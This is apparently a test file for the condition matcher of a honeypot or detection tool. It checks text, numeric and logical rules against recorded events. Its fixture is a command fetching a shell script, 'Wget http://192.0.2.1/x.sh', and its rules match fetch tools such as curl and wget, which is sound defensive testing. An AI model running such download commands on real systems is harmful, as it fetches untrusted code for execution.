import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Event } from '../model/event.ts';
import { type Condition, compile, conditionSchema, like } from './conditions.ts';
import { eventOf } from './event-fixture.ts';

const event = eventOf({ kind: 'command', input: 'Wget http://192.0.2.1/x.sh' }) as Event;
const holds = (condition: Condition, of: Event = event) => compile(conditionSchema.parse(condition))(of);

describe('conditions', () => {
  it('compare text', () => {
    expect(holds({ field: 'input', contains: ['curl', 'http://'] })).toBe(true);
    expect(holds({ field: 'input', startsWith: 'wget' })).toBe(false);
    expect(holds({ field: 'input', startsWith: 'wget', anyCase: true })).toBe(true);
    expect(holds({ field: 'input', endsWith: '.sh', contains: '192.0.2.1' })).toBe(true);
    expect(holds({ field: 'input', endsWith: '.sh', contains: '192.0.2.2' })).toBe(false);
    expect(holds({ field: 'kind', in: ['login', 'command'] })).toBe(true);
  });

  it('compare numbers and booleans', () => {
    expect(holds({ field: 'port', equals: 23 })).toBe(true);
    expect(holds({ field: 'port', above: 22, below: 24 })).toBe(true);
    expect(holds({ field: 'decoy', equals: false })).toBe(false);
  });

  it('are false of a field that an event does not have, and their `not` is true', () => {
    expect(holds({ field: 'user', equals: '' })).toBe(false);
    expect(holds({ not: { field: 'user', equals: '' } })).toBe(true);
  });

  it('join', () => {
    const yes: Condition = { field: 'port', equals: 23 };
    const no: Condition = { field: 'port', equals: 24 };
    expect(holds({ all: [yes, { any: [no, yes] }, { not: no }] })).toBe(true);
    expect(holds({ all: [yes, no] })).toBe(false);
    expect(holds({ any: [no, no] })).toBe(false);
  });

  it('read the agent of requests and of access logs', () => {
    const condition: Condition = { field: 'agent', contains: 'curl' };
    const request = eventOf({
      kind: 'request',
      method: 'GET',
      target: '/',
      status: 200,
      headers: [['user-AGENT', 'curl/8']],
    });
    expect(holds(condition, request as Event)).toBe(true);
    const access = eventOf({
      kind: 'access',
      method: 'GET',
      target: '/',
      status: 200,
      size: 0,
      agent: 'curl/8',
    });
    expect(holds(condition, access as Event)).toBe(true);
  });
});

describe('like', () => {
  it('agrees with a regular expression, for any text', () => {
    const short = fc.string({ unit: fc.constantFrom('a', 'b', '*'), maxLength: 8 });
    fc.assert(
      fc.property(short, short, (given, pattern) => {
        const plain = given.replaceAll('*', 'c');
        const expression = new RegExp(`^${pattern.replaceAll('*', '.*')}$`);
        expect(like(plain, pattern)).toBe(expression.test(plain));
      }),
    );
  });
});
